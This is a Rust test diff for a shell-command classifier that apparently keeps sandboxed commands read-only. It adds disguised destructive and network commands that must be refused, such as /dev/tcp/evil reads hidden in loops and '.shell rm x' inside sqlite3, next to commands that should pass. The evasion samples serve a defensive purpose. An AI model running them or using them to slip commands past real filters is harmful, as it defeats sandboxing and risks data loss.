@@ -129,6 +129,7 @@ pub(super) const DISGUISES: &[&str] = &[
     "x=rm; $x y",
     "${x} y",
     "{rm,x}",
+    "git branch @{rm,x}",
     "r{m,} x",
     "{ rm x; }",
     "cat <(rm x)",
@@ -201,6 +202,38 @@ pub(super) const DISGUISES: &[&str] = &[
     "wget http://x",
     "cat < /dev/tcp/evil/80",
     "cat < $f",
+    "for f in /d*/tcp/evil/80; do cat < $f; done",
+    "for f in a; do f=/dev/tcp/evil/80; cat < $f; done",
+    "for f in $x; do cat < \"$f\"; done",
+    "echo 'import os' | python3",
+    "echo 'rm x' | node",
+    "make",
+    "cargo",
+    "ip link set lo down",
+    "ip netns add x",
+    "ip -b file",
+    "tar -xf x",
+    "tar --list -I rm --file x",
+    "dc x",
+    "dc -e '!rm x'",
+    "sqlite3 app.db 'select 1'",
+    "sqlite3 -readonly app.db '.shell rm x'",
+    "sqlite3 -readonly app.db \"select writefile('x', '')\"",
+    "sqlite3 -readonly app.db 'select 1; drop table x'",
+    "mapfile -C 'rm x' a",
+    "mapfile PATH",
+    "export PATH=.",
+    "export $x",
+    "git stash show --ext-diff",
+    "git config user.name Anna",
+    "git config --get user.name --file x --add y z",
+    "git remote show origin",
+    "git notes add",
+    "git bisect",
+    "git bisect run rm x",
+    "git help -w log",
+    "gzip x",
+    "gzip -c --unheard-of x",
     "echo x > /dev/sda",
     "echo x > /dev/tcp/evil/80",
     "kill 1",
@@ -296,6 +329,24 @@ pub(super) const READS: &[&str] = &[
     "echo ${x%.txt} ${#x} ${x:-none}",
     "ps aux | grep '[f]oo'",
     "tee /dev/null < x",
+    "for f in *.csv; do wc -l < \"$f\"; done",
+    "for f in /var/log/*.log a.txt; do wc -l < ${f}; done",
+    "ip addr",
+    "ip -4 addr show eth0",
+    "tar -t -f x.tar",
+    "tar --list --file=x.tar",
+    "dc -e '2 3 + p'",
+    "sqlite3 -readonly app.db 'select count(*) from t;'",
+    "sqlite3 -readonly app.db .schema",
+    "mapfile -t lines < x",
+    "export LANG=C; sort x",
+    "git stash show -p stash@{0}",
+    "git config user.name",
+    "git remote show -n origin",
+    "git reflog -10",
+    "git bisect log",
+    "git help log",
+    "bash --version",
     "true",
     "",
 ];
@@ -353,11 +404,85 @@ fn written_paths_are_listed() {
 
 #[test]
 fn a_program_stands_in_the_table_once() {
-    let mut names: Vec<_> = programs::PROGRAMS.iter().map(|(name, _)| name).collect();
+    let mut names: Vec<_> = table::PROGRAMS.iter().map(|(name, _)| name).collect();
     names.sort_unstable();
     let all = names.len();
     names.dedup();
     assert_eq!(names.len(), all);
+}
+
+/// Each row against what it says: what it lists passes or is refused, and an option that nobody knows never makes a
+/// stricter row pass.
+#[test]
+fn every_row_of_the_table_does_what_it_says() {
+    use table::{Operands, PROGRAMS, Rule};
+    let passes = |command: &str| classify(command).effect == EffectClass::Read && classify(command).writes.is_empty();
+    for (name, rule) in PROGRAMS {
+        let check = |arguments: &str, expect: bool| {
+            let command = format!("{name} {arguments}");
+            assert_eq!(passes(&command), expect, "{command}: {:?}", classify(&command));
+        };
+        match rule {
+            Rule::Pure => check("x", true),
+            Rule::Without(bad) | Rule::WithoutLeading(bad) => {
+                check("x", true);
+                bad.iter().for_each(|option| check(&format!("{option} x"), false));
+                check("$x", false);
+            }
+            Rule::Only(good) | Rule::OnlyOrNone(good) => {
+                good.iter().for_each(|word| check(word, true));
+                check("", matches!(rule, Rule::OnlyOrNone(_)));
+                check("--unheard-of", false);
+                check("$x", false);
+            }
+            Rule::First(good) => {
+                good.iter().for_each(|word| check(&format!("{word} x"), true));
+                check("", false);
+                check("--unheard-of", false);
+                check(&format!("{} --unheard-of", good[0]), false);
+            }
+            Rule::Sub(phrases) => {
+                for (phrase, good) in *phrases {
+                    check(phrase, true);
+                    good.iter().for_each(|option| check(&format!("{phrase} {option}"), true));
+                    check(&format!("{phrase} --unheard-of"), false);
+                    check(&format!("{phrase} $x"), false);
+                }
+                check("", false);
+                check("--unheard-of", false);
+            }
+            Rule::Options(good, operands) => {
+                let end = if *operands == Operands::ToStdout { "x -" } else { "x" };
+                check(end, true);
+                good.iter().for_each(|option| check(&format!("{option} {end}"), true));
+                check(&format!("--unheard-of {end}"), false);
+                check(&format!("+x {end}"), false);
+                check("$x", false);
+                match operands {
+                    Operands::Any => {}
+                    Operands::Local => check("http://x", false),
+                    Operands::NoAssignment => check("a=b", false),
+                    Operands::ToStdout => check("x y", false),
+                }
+            }
+            Rule::Needs(one, others, _, _) => {
+                one.iter().for_each(|option| check(&format!("{option} x"), true));
+                others.iter().for_each(|option| check(&format!("{} {option} x", one[0]), true));
+                others.iter().for_each(|option| check(&format!("{option} x"), false));
+                check("x", false);
+                check(&format!("{} --unheard-of", one[0]), false);
+            }
+            Rule::OneOperand(bad, valued) => {
+                check("x", true);
+                check("x y", false);
+                bad.iter().for_each(|option| check(&format!("{option} x"), false));
+                valued.iter().for_each(|option| check(&format!("{option} 3 x"), true));
+            }
+            Rule::Always(_, _) => check("x", false),
+            // These have examples of their own in this file.
+            Rule::Special(_, words) => assert!(!words.is_empty()),
+        }
+    }
 }
 
 #[test]
